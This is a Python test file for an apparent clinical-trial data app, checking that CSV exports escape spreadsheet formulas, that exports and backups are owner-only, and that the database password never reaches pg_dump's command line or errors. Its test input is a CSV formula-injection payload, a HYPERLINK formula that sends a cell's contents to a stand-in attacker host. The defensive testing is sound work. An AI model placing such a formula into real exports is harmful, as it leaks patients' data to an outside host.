"""Exports and backups as files: formulas escaped in every CSV, files owner-only (0600), and the
PostgreSQL password never on a command line or in an error (issue: security findings 7-9)."""

from __future__ import annotations

import os
import secrets
import stat
import textwrap
from pathlib import Path

import pytest
from sqlalchemy.engine import make_url

from helpers import Clinic, FixedClock, run_cli
from integration.test_safety_services import planned_and_running
from microtrial.services import exports, records
from microtrial.services.records import DiaryInput

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"see results")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_redcap_records_escape_a_formula_typed_as_free_text(
    clinic: Clinic, clock: FixedClock
) -> None:
    doc, pid, _ = planned_and_running(clinic, clock)
    answers = {"other": 1, "other_description": FORMULA}
    entry = DiaryInput(clock().date(), answers, instrument_id="ae_checklist")
    records.record_diary_entry(clinic.db, clinic.actors["p_A-001"], pid, entry, clock=clock)
    text = exports.export_redcap_project(
        clinic.db, doc, exports.ExportScope(patient_code="A-001"), clock=clock
    ).records
    assert FORMULA.replace('"', '""') not in text.replace("'=", "")  # never a bare formula
    assert "'=HYPERLINK(" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "@", "+")), cell


def test_cli_exports_and_backups_are_owner_only(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MICROTRIAL_EXPORT_SECRET", secrets.token_urlsafe(32))
    url = ("--database-url", database_url)
    assert run_cli("db", "upgrade", *url)[0] == 0
    assert run_cli("site", "add", "LON1", *url)[0] == 0
    for i in range(5):
        code, _, err = run_cli(
            "patient", "add", "--site", "LON1", "--code", f"P-{i}", "--birth-year", "1970",
            "--sex", "female", "--tz", "Europe/London", *url,
        )  # fmt: skip
        assert code == 0, err
    os.umask(0o022)  # a usual umask: files would be world-readable by default
    fhir = tmp_path / "out" / "bundle.json"
    assert run_cli("export", "fhir", "--out", str(fhir), "--site", "LON1", *url)[0] == 0
    research = tmp_path / "research"
    code, _, err = run_cli("export", "research", "--out", str(research), *url)
    assert code == 0, err
    backup = tmp_path / "clinic.backup"
    code, _, err = run_cli("backup", str(backup), *url)
    assert code == 0, err
    written = [fhir, backup, *research.iterdir()]
    assert len(written) > 5
    for path in written:
        assert mode(path) == 0o600, path


@pytest.mark.pg
def test_pg_backup_password_stays_off_the_command_line_and_out_of_errors(
    pg_database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Trust auth ignores the password, so the real pg_dump runs; a shim on PATH records argv."""
    secret = "s3cret-PW-9f2c"
    url = make_url(pg_database_url).set(password=secret).render_as_string(hide_password=False)
    real = next(
        p
        for d in os.environ["PATH"].split(os.pathsep)
        if (p := Path(d) / "pg_dump").is_file() and os.access(p, os.X_OK)
    )
    shims = tmp_path / "bin"
    shims.mkdir()
    seen = tmp_path / "argv.txt"
    shim = shims / "pg_dump"
    shim.write_text(
        textwrap.dedent(f"""\
            #!/bin/sh
            printf '%s\\n' "$@" > {seen}
            printf '%s\\n' "$PGPASSWORD" >> {seen}.env
            if [ -n "$SHIM_FAIL" ]; then
                echo "pg_dump: error: connection to $PGPASSWORD $* failed" >&2; exit 1
            fi
            exec {real} "$@"
            """)
    )
    shim.chmod(0o700)
    monkeypatch.setenv("PATH", f"{shims}{os.pathsep}{os.environ['PATH']}")
    target = tmp_path / "pg.backup"
    code, _, err = run_cli("backup", str(target), "--database-url", url)
    assert code == 0, err
    assert secret not in seen.read_text()
    assert seen.read_text().count("--dbname=postgresql://") == 1
    assert Path(f"{seen}.env").read_text().strip() == secret  # handed over in the environment
    assert mode(target) == 0o600
    monkeypatch.setenv("SHIM_FAIL", "1")  # a failing pg_dump that even echoes the password
    code, out, err = run_cli("backup", str(tmp_path / "x.backup"), "--database-url", url)
    assert code != 0
    assert "pg_dump failed (exit 1): pg_dump: error: connection to *** " in out + err
    assert secret not in out + err
    assert not (tmp_path / "x.backup.partial").exists()
